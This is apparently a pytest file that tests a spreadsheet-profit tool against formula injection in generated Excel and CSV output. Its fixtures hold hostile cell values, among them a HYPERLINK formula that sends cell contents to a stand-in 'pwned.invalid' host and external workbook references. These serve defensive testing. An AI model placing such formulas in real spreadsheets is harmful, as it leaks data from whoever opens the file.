"""Formula injection: a text from the input that looks like a formula stays a text, and no link leads outside."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path
from xml.etree import ElementTree

import pandas as pd
import pytest

import xlprofit
from tests.bad_input.company import company
from tests.needs import few
from tests.packages import parts_of, sheets_of
from xlprofit.drawing import drawing, typed
from xlprofit.drawing.to_csv import render_csv as as_csv
from xlprofit.results import Results
from xlprofit.sheets import book, explanation
from xlprofit.sheets.parts import Figure
from xlprofit.tables import TABLES
from xlprofit.words.sheets import say_sheets

PAYLOAD = "PWNED"
STARTS = ("=", "+", "-", "@", "\t=", "\uff1d")
LINKING = ("", 'HYPERLINK("http://pwned.invalid/?"&A1,"{}")', "[http://pwned.invalid/b.xlsx]Sheet1!A1+{}")
WORDS = ("name", "segment", "channel", "owner", "product", "note", "group", "unit", "activity", "resource")


def spoilt(text: str, start: str, form: str) -> str:
    """A name with something that looks like a formula before it: other than any other such name."""
    inner = form.format(PAYLOAD + text) if form else f"{PAYLOAD}{text}(1+1)"
    return start + inner


def tables(start: str, form: str) -> dict[str, pd.DataFrame]:
    """The company, its customers, activities and resources named like formulas, and with all words so that it has."""
    found = company()
    found["Customers"] = found["Customers"].assign(
        name="n", channel="c", owner="o", country="x", since=pd.Timestamp("2023-01-01")
    )
    found["Sales"] = found["Sales"].assign(product="p")
    found["DirectCosts"] = pd.DataFrame(
        {
            "date": [pd.Timestamp("2024-01-10")],
            "customer": ["ACME"],
            "group": ["Own"],
            "amount": [7.0],
            "note": ["n"],
        }
    )
    found["Prospects"] = pd.DataFrame(
        {
            "prospect": ["New"],
            "segment": ["Shops"],
            "revenue": [10.0],
            "margin": [0.5],
            "win_probability": [0.5],
        }
    )
    found["Commissions"] = pd.DataFrame(
        {"scope": ["segment"], "value": ["Shops"], "basis": ["net_revenue"], "rate": [0.01]}
    )
    found["Referrals"] = pd.DataFrame({"referrer": ["ACME"], "referred": ["Beta"]})
    kinds = ("customer", "name", "text")
    for name, frame in found.items():
        if name == "Settings":
            continue
        for column in TABLES[name].columns:
            named = (
                column.kind in kinds
                or column.name in WORDS
                or (name, column.name) == ("Commissions", "value")
            )
            if named and column.name in frame and column.name not in ("driver", "scope"):
                values = [None if v is None else spoilt(str(v), start, form) for v in frame[column.name]]
                found[name] = found[name].assign(**{column.name: pd.Series(values, dtype=object)})
    return found


CASES = [(start, form) for form in LINKING for start in STARTS]


@pytest.fixture(scope="module", params=few(CASES, CASES[0], CASES[-2]), ids=lambda case: "".join(case)[:12])
def refreshed(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> tuple[Path, Results]:
    path = xlprofit.new(tmp_path_factory.mktemp("spoilt") / "book.xlsx", tables(*request.param))
    done = xlprofit.refresh(path)
    return path, done.results


def ours(path: Path) -> Iterator[tuple[str, ElementTree.Element]]:
    """Each sheet of the workbook, hidden ones too, as XML."""
    parts = parts_of(path)
    for name, part in sheets_of(parts).items():
        yield name, ElementTree.fromstring(parts[part])


def test_no_formula_holds_a_text_of_the_input(refreshed: tuple[Path, Results]) -> None:
    path, results = refreshed
    assert any(PAYLOAD in str(name) for name in results.customers.index)
    shown = 0
    for name, sheet in ours(path):
        for element in sheet.iter():
            tag = element.tag.rpartition("}")[2]
            if tag in ("f", "formula", "formula1", "formula2"):
                assert PAYLOAD not in (element.text or ""), (name, element.text)
            elif tag == "t":
                shown += PAYLOAD in (element.text or "")
    assert shown > 20


def test_no_part_leads_out_of_the_workbook(refreshed: tuple[Path, Results]) -> None:
    for name, content in parts_of(refreshed[0]).items():
        if name.endswith(".rels"):
            assert b"External" not in content, name
            assert b"pwned" not in content.lower(), name
        assert "externalLink" not in name
        if "chart" in name or name.endswith("workbook.xml"):
            for found in re.findall(rb"<(?:\w+:)?(?:f|definedName)\b[^>]*>([^<]*)<", content):
                assert PAYLOAD.encode() not in found, (name, found)


def test_a_link_of_live_excel_leads_to_a_sheet_of_the_workbook(refreshed: tuple[Path, Results]) -> None:
    results = refreshed[1]
    asked = explanation.describe_explanation_sheet(results, Figure(customer=str(results.customers.index[0])))
    sheets = say_sheets([*book.describe_result_sheets(results), asked], "en")
    held = [
        content
        for sheet in sheets
        for row in typed.build_typed_rows(drawing.build_drawing(sheet))
        for content in row
    ]
    assert any(PAYLOAD in str(content) for content in held)
    for content in held:
        if isinstance(content, str) and PAYLOAD in content and not content.startswith("'"):
            linked = re.fullmatch(r'=HYPERLINK\("#(?:[^"]|"")*","((?:[^"]|"")*)"\)', content)
            assert linked or not content.startswith(tuple("=+-@")), content


@pytest.mark.parametrize("between", ["", ";", "\t", "\n", ",", '"', '";', ";;"])
@pytest.mark.parametrize("start", STARTS)
def test_no_cell_of_a_csv_begins_a_formula_wherever_it_is_split(start: str, between: str) -> None:
    """Excel in Finnish or German splits the lines of any CSV at semicolons, whatever stands in quotes within."""
    text = f"{between and 'a'}{between}{start}1+1"
    frame = pd.DataFrame({"said": [text], "profit": [-1.5]}, index=pd.Index([text], name="customer"))
    written = as_csv(frame)
    read = next(csv.DictReader(io.StringIO(written)))
    assert read["customer"].replace("'", "") == read["said"].replace("'", "") == text
    assert not read["customer"].startswith(STARTS) and not read["said"].startswith(STARTS)
    for cell in re.split("[;\t\r\n]", written.partition("\n")[2]):
        assert not cell.lstrip('"').startswith(STARTS), (cell, written)


def test_a_name_that_begins_no_formula_is_written_as_it_is() -> None:
    names = ["a-b", "x; y", "1=1", "Ann's", "a; -b"]
    frame = pd.DataFrame({"profit": [1.0] * len(names)}, index=pd.Index(names, name="customer"))
    assert [row["customer"] for row in csv.DictReader(io.StringIO(as_csv(frame)))] == names
